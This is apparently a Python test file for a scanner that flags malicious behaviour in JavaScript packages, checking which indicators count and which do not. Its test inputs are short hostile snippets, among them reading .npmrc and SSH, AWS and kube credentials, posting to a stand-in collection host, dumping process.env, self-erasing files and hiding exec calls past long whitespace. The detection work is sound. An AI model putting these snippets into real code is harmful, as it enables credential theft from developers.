"""Indicator scan: what counts, and what is deliberately not counted."""

from __future__ import annotations

from airlock.analysis.indicators import Indicator
from airlock.analysis.js import Dialect, SourceText, parse
from airlock.analysis.signals import scan_indicators


def kinds(source: str) -> set[Indicator]:
    data = source.encode()
    root = parse(data, Dialect.JAVASCRIPT).tree.root_node
    return {s.indicator for s in scan_indicators(SourceText("x.js", data), root)}


def test_hosts_and_paths_in_code_are_found() -> None:
    found = kinds("fs.readFileSync(home + '/.npmrc'); post('https://a.oastify.com.invalid/x');")
    assert {Indicator.SECRET_FILE, Indicator.EXFIL_HOST} <= found


def test_comments_do_not_count() -> None:
    assert kinds("// reads ~/.npmrc and posts to pastebin.com\nmodule.exports = 1;") == set()


def test_base64_literals_are_decoded_before_matching() -> None:
    assert Indicator.EXFIL_HOST in kinds("const u = Buffer.from('aHR0cHM6Ly9wYXN0ZWJpbi5jb20=', 'base64');")


def test_private_and_link_local_ip_urls_are_not_raw_ip_exfil() -> None:
    assert Indicator.RAW_IP_URL not in kinds(
        "get('http://169.254.169.254/latest'); get('http://127.0.0.1:80');"
    )
    assert Indicator.RAW_IP_URL in kinds("get('http://203.0.113.9/x');")


def test_invisible_characters_only_count_outside_literals() -> None:
    assert Indicator.INVISIBLE not in kinds("const s = 'a\u200cb';")
    assert Indicator.INVISIBLE in kinds("const { a, \u3164 } = q; run(\u3164);")


def test_obfuscator_needs_many_names() -> None:
    assert Indicator.OBFUSCATOR not in kinds("var _0x1a2b = 1;")
    assert Indicator.OBFUSCATOR in kinds("".join(f"var _0x{i:04x}=1;" for i in range(30)))


def test_module_level_endless_loop_but_not_inside_functions() -> None:
    assert Indicator.INFINITE_LOOP in kinds("for (let i = 0; i < Infinity; i++) { log(i); }")
    assert Indicator.INFINITE_LOOP not in kinds("function serve() { while (true) { step(); } }")


def test_loop_with_an_exit_is_not_endless() -> None:
    assert Indicator.INFINITE_LOOP not in kinds("for (;;) { if (done()) break; }")


def test_secret_paths_built_from_segments_are_secret_files() -> None:
    for source in (
        "path.join(os.homedir(), '.ssh', 'id_ed25519x');",
        "path.join(home, '.kube', 'config');",
        "path.join(home, '.config', 'gcloud');",
        "path.join(home, '.docker', 'config.json');",
        "path.join(profile, 'Local Extension Settings', id);",
        "path.join(home, '.aws', 'credentials');",
    ):
        assert Indicator.SECRET_FILE in kinds(source), source
    assert Indicator.SECRET_FILE not in kinds("const f = path.join(dir, 'credentials'); const k = '.kube';")


def test_an_environment_nested_in_a_serialised_object_is_a_dump() -> None:
    assert Indicator.ENV_DUMP in kinds("send(JSON.stringify({ host, e: process.env }));")
    assert Indicator.ENV_DUMP in kinds("send(JSON.stringify({ ...process.env, at: 1 }));")
    # Passing the environment on to a child is what every spawn does.
    assert Indicator.ENV_DUMP not in kinds("spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: '1' } });")
    assert Indicator.ENV_DUMP not in kinds("JSON.stringify({ home: process.env.HOME });")


def test_self_erasure_and_manifest_rewrites() -> None:
    assert Indicator.SELF_ERASE in kinds("fs.unlinkSync(__filename);")
    assert Indicator.SELF_ERASE in kinds("fs.rmSync(fileURLToPath(import.meta.url), { force: true });")
    assert Indicator.MANIFEST_REWRITE in kinds("fs.renameSync('package.md', 'package.json');")
    assert Indicator.MANIFEST_REWRITE in kinds("fs.writeFileSync(path.join(__dirname, 'package.json'), s);")
    assert not {Indicator.SELF_ERASE, Indicator.MANIFEST_REWRITE} & kinds(
        "fs.readFileSync('package.json'); fs.writeFileSync(path.join(__dirname, 'config.json'), s);"
        "fs.unlinkSync(path.join(__dirname, 'tmp.zip')); fs.writeFileSync(path.join(root, '../package.json'), s);"
    )


def test_hidden_code_is_code_past_whitespace_not_whitespace_inside_a_string() -> None:
    pushed = "module.exports = 1;" + " " * 200 + "require('child_process').exec('id');\n"
    assert Indicator.HIDDEN_CODE in kinds(pushed)
    table = "const t = 'a" + "\t" * 200 + "b';\nmodule.exports = t;\n"
    assert Indicator.HIDDEN_CODE not in kinds(table)
